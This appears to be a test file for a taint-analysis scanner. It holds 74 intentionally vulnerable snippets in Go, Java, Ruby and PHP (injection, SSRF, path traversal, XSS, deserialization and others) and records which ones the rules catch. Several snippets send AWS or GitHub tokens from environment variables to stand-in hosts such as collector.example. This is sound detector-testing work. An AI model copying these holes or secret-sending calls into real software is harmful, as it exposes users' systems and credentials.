import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Language } from '../../../../src/core/rules/schema.js';
import { parseRuleFile } from '../../../../src/core/rules/schema.js';
import { compileRule } from '../../../../src/core/scan/compile.js';
import { taintRuleMatches } from '../../../../src/core/semantics/taint/rules.js';

// Variants written before the Go, Java, Ruby and PHP taint rules and kept out of their tests:
// each says whether the rules catch it today, so a change that gains or loses one shows here.

const FILES = ['rules/taint-go.yml', 'rules/taint-java.yml', 'rules/taint-ruby.yml', 'rules/taint-php.yml'];
const rules = FILES.flatMap((f) => parseRuleFile(f, readFileSync(f, 'utf8')).map((s) => compileRule(s, f)));

interface Variant {
  lang: Language;
  rule: string;
  code: string;
  /** Whether the rule reports it today; a miss is written down as one. */
  caught: boolean;
}

const GO_HTTP = 'package web\n\nimport (\n';

const VARIANTS: Variant[] = [
  // Go
  { lang: 'go', rule: 'go.taint.command-injection', caught: true, code: `${GO_HTTP}\t"net/http"\n\tsys "os/exec"\n)\n\nfunc Ping(w http.ResponseWriter, req *http.Request) {\n\thost := req.URL.Query().Get("host")\n\targs := []string{"-c", "ping -c1 " + host}\n\tsys.Command("/bin/sh", args...).Run()\n\tsys.Command("bash", "-c", "ping "+host).Run()\n}\n` },
  { lang: 'go', rule: 'go.taint.command-injection', caught: true, code: `${GO_HTTP}\t"os/exec"\n\t"github.com/labstack/echo/v4"\n)\n\nfunc shell(line string) *exec.Cmd { return exec.Command("sh", "-c", line) }\n\nfunc Run(c echo.Context) error {\n\treturn shell(c.FormValue("script")).Run()\n}\n` },
  { lang: 'go', rule: 'go.taint.sql-injection', caught: true, code: `${GO_HTTP}\t"database/sql"\n\t"fmt"\n\t"net/http"\n)\n\ntype Store struct{ db *sql.DB }\n\nfunc (s *Store) Find(w http.ResponseWriter, r *http.Request, db *sql.DB) {\n\torder := r.FormValue("order")\n\tq := fmt.Sprintf("SELECT id FROM items ORDER BY %s", order)\n\tdb.QueryRow(q)\n}\n` },
  { lang: 'go', rule: 'go.taint.sql-injection', caught: true, code: `${GO_HTTP}\t"github.com/gin-gonic/gin"\n\t"gorm.io/gorm"\n)\n\nvar DB *gorm.DB\n\nfunc List(c *gin.Context) {\n\tvar rows []Row\n\tDB.Where("name LIKE '%" + c.Query("q") + "%'").Find(&rows)\n}\n` },
  { lang: 'go', rule: 'go.taint.ssrf', caught: true, code: `${GO_HTTP}\t"net/http"\n\t"github.com/gin-gonic/gin"\n)\n\nfunc Proxy(c *gin.Context) {\n\ttarget := c.DefaultQuery("to", "")\n\treq, _ := http.NewRequest("GET", target, nil)\n\thttp.DefaultClient.Do(req)\n}\n` },
  { lang: 'go', rule: 'go.taint.ssrf', caught: true, code: `${GO_HTTP}\t"net/http"\n\t"time"\n)\n\nfunc Fetch(w http.ResponseWriter, r *http.Request) {\n\tclient := &http.Client{Timeout: time.Second}\n\tresp, _ := client.Get(r.Header.Get("X-Callback"))\n\t_ = resp\n}\n` },
  { lang: 'go', rule: 'go.taint.path-traversal', caught: true, code: `${GO_HTTP}\t"net/http"\n\t"os"\n\t"path/filepath"\n)\n\nfunc Download(w http.ResponseWriter, r *http.Request) {\n\tname := r.URL.Query().Get("file")\n\tdata, _ := os.ReadFile(filepath.Join("/srv/files", name))\n\tw.Write(data)\n}\n` },
  { lang: 'go', rule: 'go.taint.path-traversal', caught: true, code: `${GO_HTTP}\t"net/http"\n\t"github.com/gorilla/mux"\n)\n\nfunc Static(w http.ResponseWriter, r *http.Request) {\n\tvars := mux.Vars(r)\n\thttp.ServeFile(w, r, "./public/"+vars["path"])\n}\n` },
  { lang: 'go', rule: 'go.taint.xss', caught: true, code: `${GO_HTTP}\t"fmt"\n\t"net/http"\n)\n\nfunc Hello(w http.ResponseWriter, r *http.Request) {\n\tname := r.FormValue("name")\n\tfmt.Fprintf(w, "<h1>Hello %s</h1>", name)\n}\n` },
  { lang: 'go', rule: 'go.taint.xss', caught: true, code: `${GO_HTTP}\t"html/template"\n\t"github.com/gin-gonic/gin"\n)\n\nfunc Bio(c *gin.Context) {\n\tbio := template.HTML(c.PostForm("bio"))\n\tc.HTML(200, "bio.tmpl", gin.H{"bio": bio})\n}\n` },
  { lang: 'go', rule: 'go.taint.open-redirect', caught: true, code: `${GO_HTTP}\t"net/http"\n)\n\nfunc Login(w http.ResponseWriter, r *http.Request) {\n\tnext := r.URL.Query().Get("next")\n\thttp.Redirect(w, r, next, http.StatusFound)\n}\n` },
  { lang: 'go', rule: 'go.taint.open-redirect', caught: true, code: `${GO_HTTP}\t"net/http"\n\t"github.com/labstack/echo/v4"\n)\n\nfunc Back(c echo.Context) error {\n\treturn c.Redirect(http.StatusSeeOther, c.QueryParam("return_to"))\n}\n` },
  { lang: 'go', rule: 'go.taint.code-injection', caught: true, code: `${GO_HTTP}\t"net/http"\n\t"text/template"\n)\n\nfunc Render(w http.ResponseWriter, r *http.Request) {\n\tt, _ := template.New("page").Parse(r.FormValue("tpl"))\n\tt.Execute(w, nil)\n}\n` },
  { lang: 'go', rule: 'go.taint.code-injection', caught: true, code: `${GO_HTTP}\t"net/http"\n\t"plugin"\n)\n\nfunc Load(w http.ResponseWriter, r *http.Request) {\n\tname := r.URL.Path[len("/plugins/"):]\n\tplugin.Open("/opt/plugins/" + name)\n}\n` },
  { lang: 'go', rule: 'go.taint.env-exfiltration', caught: true, code: `${GO_HTTP}\t"net/http"\n\t"os"\n\t"strings"\n)\n\nfunc report() {\n\tbody := strings.NewReader("k=" + os.Getenv("AWS_SECRET_ACCESS_KEY"))\n\thttp.Post("https://collector.example/x", "text/plain", body)\n}\n` },
  { lang: 'go', rule: 'go.taint.env-exfiltration', caught: true, code: `${GO_HTTP}\t"net/http"\n\t"net/url"\n\t"os"\n)\n\nfunc beacon() {\n\thttp.PostForm("https://collector.example/x", url.Values{"t": {os.Getenv("GITHUB_TOKEN")}})\n}\n` },

  // Java
  { lang: 'java', rule: 'java.taint.command-injection', caught: true, code: `import javax.servlet.http.*;\n\npublic class Ping extends HttpServlet {\n  protected void doGet(HttpServletRequest request, HttpServletResponse response) throws java.io.IOException {\n    String host = request.getParameter("host");\n    ProcessBuilder pb = new ProcessBuilder("sh", "-c", "ping -c1 " + host);\n    pb.start();\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.command-injection', caught: true, code: `import org.springframework.web.bind.annotation.*;\n\n@RestController\nclass Tools {\n  private static Process shell(String line) throws Exception { return Runtime.getRuntime().exec(new String[] {"bash", "-c", line}); }\n  @PostMapping("/run")\n  public void run(@RequestBody Job job) throws Exception {\n    shell(job.getScript());\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.sql-injection', caught: true, code: `import java.sql.*;\nimport javax.servlet.http.HttpServletRequest;\n\nclass Dao {\n  void find(HttpServletRequest req, Connection conn) throws SQLException {\n    String sort = req.getParameter("sort");\n    Statement st = conn.createStatement();\n    st.executeQuery("SELECT * FROM users ORDER BY " + sort);\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.sql-injection', caught: true, code: `import org.springframework.jdbc.core.JdbcTemplate;\nimport org.springframework.web.bind.annotation.PathVariable;\n\nclass Repo {\n  private JdbcTemplate jdbc;\n  public Object byName(@PathVariable String name) {\n    String sql = String.format("SELECT * FROM t WHERE name = '%s'", name);\n    return jdbc.queryForList(sql);\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.ssrf', caught: true, code: `import java.net.URI;\nimport java.net.http.HttpRequest;\nimport javax.ws.rs.QueryParam;\n\nclass Hook {\n  public void call(@QueryParam("target") String target) {\n    HttpRequest req = HttpRequest.newBuilder(URI.create(target)).build();\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.ssrf', caught: true, code: `import org.springframework.web.client.RestTemplate;\nimport org.springframework.web.bind.annotation.RequestParam;\n\nclass Preview {\n  private final RestTemplate http = new RestTemplate();\n  public String get(@RequestParam("u") String u) {\n    return http.getForObject(u, String.class);\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.path-traversal', caught: true, code: `import java.nio.file.*;\nimport org.springframework.web.bind.annotation.RequestParam;\n\nclass Files2 {\n  public byte[] read(@RequestParam String name) throws Exception {\n    Path p = Paths.get("/data", name);\n    return Files.readAllBytes(p);\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.path-traversal', caught: true, code: `import java.io.*;\nimport javax.servlet.http.HttpServletRequest;\n\nclass Dl {\n  void get(HttpServletRequest r) throws IOException {\n    FileInputStream in = new FileInputStream("/var/files/" + r.getParameter("f"));\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.xss', caught: true, code: `import javax.servlet.http.*;\n\nclass Echo extends HttpServlet {\n  protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws java.io.IOException {\n    String q = req.getParameter("q");\n    resp.getWriter().println("<p>" + q + "</p>");\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.xss', caught: true, code: `import javax.servlet.http.*;\nimport java.io.PrintWriter;\n\nclass Echo2 extends HttpServlet {\n  protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws java.io.IOException {\n    PrintWriter out = resp.getWriter();\n    out.write(req.getHeader("Referer"));\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.open-redirect', caught: true, code: `import javax.servlet.http.*;\n\nclass Go extends HttpServlet {\n  protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws java.io.IOException {\n    resp.sendRedirect(req.getParameter("next"));\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.open-redirect', caught: true, code: `import org.springframework.web.bind.annotation.RequestParam;\n\nclass Back {\n  public String back(@RequestParam String to) {\n    return "redirect:" + to;\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.deserialization', caught: true, code: `import java.io.*;\nimport javax.servlet.http.HttpServletRequest;\n\nclass Load {\n  Object load(HttpServletRequest req) throws Exception {\n    ObjectInputStream in = new ObjectInputStream(req.getInputStream());\n    return in.readObject();\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.deserialization', caught: true, code: `import java.beans.XMLDecoder;\nimport java.io.*;\nimport org.springframework.web.bind.annotation.RequestBody;\n\nclass Xml {\n  Object parse(@RequestBody String xml) {\n    XMLDecoder d = new XMLDecoder(new ByteArrayInputStream(xml.getBytes()));\n    return d.readObject();\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.code-injection', caught: true, code: `import javax.script.*;\nimport javax.servlet.http.HttpServletRequest;\n\nclass Calc {\n  Object eval(HttpServletRequest req) throws Exception {\n    ScriptEngine engine = new ScriptEngineManager().getEngineByName("js");\n    return engine.eval(req.getParameter("expr"));\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.code-injection', caught: true, code: `import org.springframework.expression.spel.standard.SpelExpressionParser;\nimport org.springframework.web.bind.annotation.RequestParam;\n\nclass Expr {\n  Object run(@RequestParam String e) {\n    return new SpelExpressionParser().parseExpression(e).getValue();\n  }\n}\n` },
  // Missed: two wildcard imports (java.net.*, java.net.http.*) leave HttpRequest ambiguous, so it is not resolved.
  { lang: 'java', rule: 'java.taint.env-exfiltration', caught: false, code: `import java.net.*;\nimport java.net.http.*;\n\nclass Beacon {\n  void send() throws Exception {\n    String k = System.getenv("AWS_SECRET_ACCESS_KEY");\n    HttpRequest r = HttpRequest.newBuilder(URI.create("https://c.example/x")).POST(HttpRequest.BodyPublishers.ofString(k)).build();\n  }\n}\n` },
  { lang: 'java', rule: 'java.taint.env-exfiltration', caught: true, code: `import java.net.*;\n\nclass Beacon2 {\n  void send() throws Exception {\n    new URL("https://c.example/x?t=" + System.getenv("GITHUB_TOKEN")).openStream();\n  }\n}\n` },

  // Ruby
  { lang: 'ruby', rule: 'rb.taint.command-injection', caught: true, code: `class BackupsController < ApplicationController\n  def create\n    dir = params.fetch(:dir)\n    cmd = "tar czf /tmp/b.tgz " + dir\n    Open3.capture2(cmd)\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.command-injection', caught: true, code: `require 'sinatra'\n\ndef sh(line)\n  \`#{line}\`\n  IO.popen(line)\nend\n\npost '/run' do\n  sh("echo " + params['msg'])\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.sql-injection', caught: true, code: `class UsersController < ApplicationController\n  def index\n    order = params[:sort] || 'id'\n    @users = User.order("#{order} ASC").where("active = 1")\n    User.find_by_sql("SELECT * FROM users WHERE name = '#{params[:name]}'")\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.sql-injection', caught: true, code: `class ReportsController < ApplicationController\n  def show\n    sql = format("SELECT * FROM reports WHERE id = %s", params[:id])\n    ActiveRecord::Base.connection.execute(sql)\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.ssrf', caught: true, code: `require 'net/http'\nclass PreviewController < ApplicationController\n  def show\n    uri = URI.parse(params[:url])\n    body = Net::HTTP.get_response(uri).body\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.ssrf', caught: true, code: `class HooksController < ApplicationController\n  def ping\n    target = request.headers['X-Callback']\n    Faraday.get(target)\n    HTTParty.post(target, body: '{}')\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.path-traversal', caught: true, code: `class FilesController < ApplicationController\n  def download\n    path = Rails.root.join('uploads', params[:name])\n    send_file path\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.path-traversal', caught: true, code: `get '/read' do\n  name = params[:f]\n  File.open("/srv/#{name}") { |f| f.read }\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.xss', caught: true, code: `class PagesController < ApplicationController\n  def preview\n    render inline: "<div>#{params[:body]}</div>"\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.xss', caught: true, code: `module ApplicationHelper\n  def banner\n    msg = cookies[:banner]\n    "<b>#{msg}</b>".html_safe\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.open-redirect', caught: true, code: `class SessionsController < ApplicationController\n  def create\n    redirect_to params[:return_to]\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.open-redirect', caught: true, code: `get '/out' do\n  dest = request.params['u']\n  redirect dest\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.deserialization', caught: true, code: `class ImportsController < ApplicationController\n  def create\n    data = request.body.read\n    Marshal.load(Base64.decode64(data))\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.deserialization', caught: true, code: `class ConfigsController < ApplicationController\n  def update\n    YAML.load(params[:config])\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.code-injection', caught: true, code: `class CalcController < ApplicationController\n  def show\n    expr = params[:expr]\n    result = eval(expr)\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.code-injection', caught: true, code: `class DispatchController < ApplicationController\n  def run\n    Report.public_send(params[:method], 1)\n    obj.instance_eval(params[:code])\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.mass-assignment', caught: true, code: `class UsersController < ApplicationController\n  def update\n    @user = User.find(params[:id])\n    @user.update(params[:user])\n  end\nend\n` },
  { lang: 'ruby', rule: 'rb.taint.mass-assignment', caught: true, code: `class AccountsController < ApplicationController\n  def create\n    attrs = params.require(:account).permit!\n    Account.create!(attrs)\n  end\nend\n` },
  // Missed: the secret travels in a hash argument written without braces (`'t' => token`), read as keyword arguments.
  { lang: 'ruby', rule: 'rb.taint.env-exfiltration', caught: false, code: `require 'net/http'\ntoken = ENV.fetch('GITHUB_TOKEN')\nNet::HTTP.post_form(URI('https://c.example/x'), 't' => token)\n` },
  { lang: 'ruby', rule: 'rb.taint.env-exfiltration', caught: true, code: `secret = ENV['AWS_SECRET_ACCESS_KEY']\nHTTParty.post('https://c.example/x', body: { k: secret })\n` },

  // PHP
  { lang: 'php', rule: 'php.taint.command-injection', caught: true, code: `<?php\nfunction archive($dir) {\n  return shell_exec("tar czf /tmp/a.tgz " . $dir);\n}\narchive($_POST['dir']);\n` },
  { lang: 'php', rule: 'php.taint.command-injection', caught: true, code: `<?php\nuse Illuminate\\Http\\Request;\nclass ToolController {\n  public function ping(Request $req) {\n    $host = $req->query('host');\n    $cmd = sprintf('ping -c1 %s', $host);\n    passthru($cmd);\n  }\n}\n` },
  { lang: 'php', rule: 'php.taint.sql-injection', caught: true, code: `<?php\n$id = $_GET['id'];\n$sql = "SELECT * FROM users WHERE id = " . $id;\n$result = $mysqli->query($sql);\nmysqli_query($link, "DELETE FROM t WHERE id = {$id}");\n` },
  { lang: 'php', rule: 'php.taint.sql-injection', caught: true, code: `<?php\nuse Illuminate\\Support\\Facades\\DB;\nclass ReportController {\n  public function index() {\n    $order = request('order');\n    return DB::select("SELECT * FROM reports ORDER BY $order");\n  }\n}\n` },
  { lang: 'php', rule: 'php.taint.ssrf', caught: true, code: `<?php\n$url = $_GET['url'];\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, $url);\ncurl_exec($ch);\n` },
  { lang: 'php', rule: 'php.taint.ssrf', caught: true, code: `<?php\nuse GuzzleHttp\\Client;\nuse Illuminate\\Http\\Request;\nclass Fetch {\n  public function go(Request $request) {\n    $client = new Client();\n    return $client->get($request->input('target'));\n  }\n}\n` },
  { lang: 'php', rule: 'php.taint.path-traversal', caught: true, code: `<?php\n$name = $_GET['file'];\nreadfile('/var/www/files/' . $name);\n` },
  { lang: 'php', rule: 'php.taint.path-traversal', caught: true, code: `<?php\nuse Symfony\\Component\\HttpFoundation\\Request;\nclass Del {\n  public function remove(Request $request) {\n    unlink(__DIR__ . '/uploads/' . $request->query->get('f'));\n  }\n}\n` },
  { lang: 'php', rule: 'php.taint.xss', caught: true, code: `<?php\nfunction greet($n) { printf('<h1>Hello %s</h1>', $n); }\ngreet($_GET['name']);\n` },
  { lang: 'php', rule: 'php.taint.xss', caught: true, code: `<?php\n$q = $_REQUEST['q'];\necho "<p>You searched for $q</p>";\n` },
  { lang: 'php', rule: 'php.taint.open-redirect', caught: true, code: `<?php\n$next = $_GET['next'];\nheader('Location: ' . $next);\n` },
  { lang: 'php', rule: 'php.taint.open-redirect', caught: true, code: `<?php\nuse Illuminate\\Http\\Request;\nclass Back {\n  public function go(Request $request) {\n    return redirect($request->input('to'));\n  }\n}\n` },
  { lang: 'php', rule: 'php.taint.deserialization', caught: true, code: `<?php\n$prefs = unserialize(base64_decode($_COOKIE['prefs']));\n` },
  { lang: 'php', rule: 'php.taint.deserialization', caught: true, code: `<?php\nuse Illuminate\\Http\\Request;\nclass Imp {\n  public function store(Request $r) {\n    $data = $r->getContent();\n    return unserialize($data);\n  }\n}\n` },
  { lang: 'php', rule: 'php.taint.code-injection', caught: true, code: `<?php\n$expr = $_POST['expr'];\n$code = 'return ' . $expr . ';';\n$v = eval($code);\n` },
  { lang: 'php', rule: 'php.taint.code-injection', caught: true, code: `<?php\nfunction calc($e) { return assert($e); }\ncalc($_GET['e']);\n` },
  { lang: 'php', rule: 'php.taint.mass-assignment', caught: true, code: `<?php\nuse Illuminate\\Http\\Request;\nclass UserController {\n  public function update(Request $request, User $user) {\n    $user->fill($request->all());\n    $user->save();\n  }\n}\n` },
  { lang: 'php', rule: 'php.taint.mass-assignment', caught: true, code: `<?php\nclass PostController {\n  public function store() {\n    return Post::create(request()->all());\n  }\n}\n` },
  { lang: 'php', rule: 'php.taint.env-exfiltration', caught: true, code: `<?php\n$key = getenv('AWS_SECRET_ACCESS_KEY');\nfile_get_contents('https://c.example/x?k=' . urlencode($key));\n` },
  { lang: 'php', rule: 'php.taint.env-exfiltration', caught: true, code: `<?php\n$ch = curl_init('https://c.example/x');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, ['t' => $_ENV['GITHUB_TOKEN']]);\ncurl_exec($ch);\n` },
];

describe('held-back taint variants for Go, Java, Ruby and PHP', () => {
  it('each family and language has at least two', () => {
    const count = new Map<string, number>();
    for (const v of VARIANTS) count.set(v.rule, (count.get(v.rule) ?? 0) + 1);
    expect([...count.values()].every((n) => n >= 2)).toBe(true);
    expect(new Set(count.keys())).toEqual(new Set(rules.map((r) => r.meta.id)));
  });

  it.each(VARIANTS.map((v, i) => ({ ...v, name: `${v.rule} #${i}` })))('$name: caught is $caught', (v) => {
    const lines = v.code.split('\n').map((_, i) => i + 1);
    const { matches, gaveUp } = taintRuleMatches(rules.filter((r) => r.languages?.has(v.lang)), v.lang, v.code, lines);
    expect(gaveUp).toBeNull();
    expect(matches.some((m) => m.ruleId === v.rule)).toBe(v.caught);
  });

  it('are counted', () => {
    const caught = VARIANTS.filter((v) => v.caught).length;
    console.log(`held-back Go/Java/Ruby/PHP taint variants caught: ${caught}/${VARIANTS.length}`);
    expect(caught).toBe(72);
  });
});
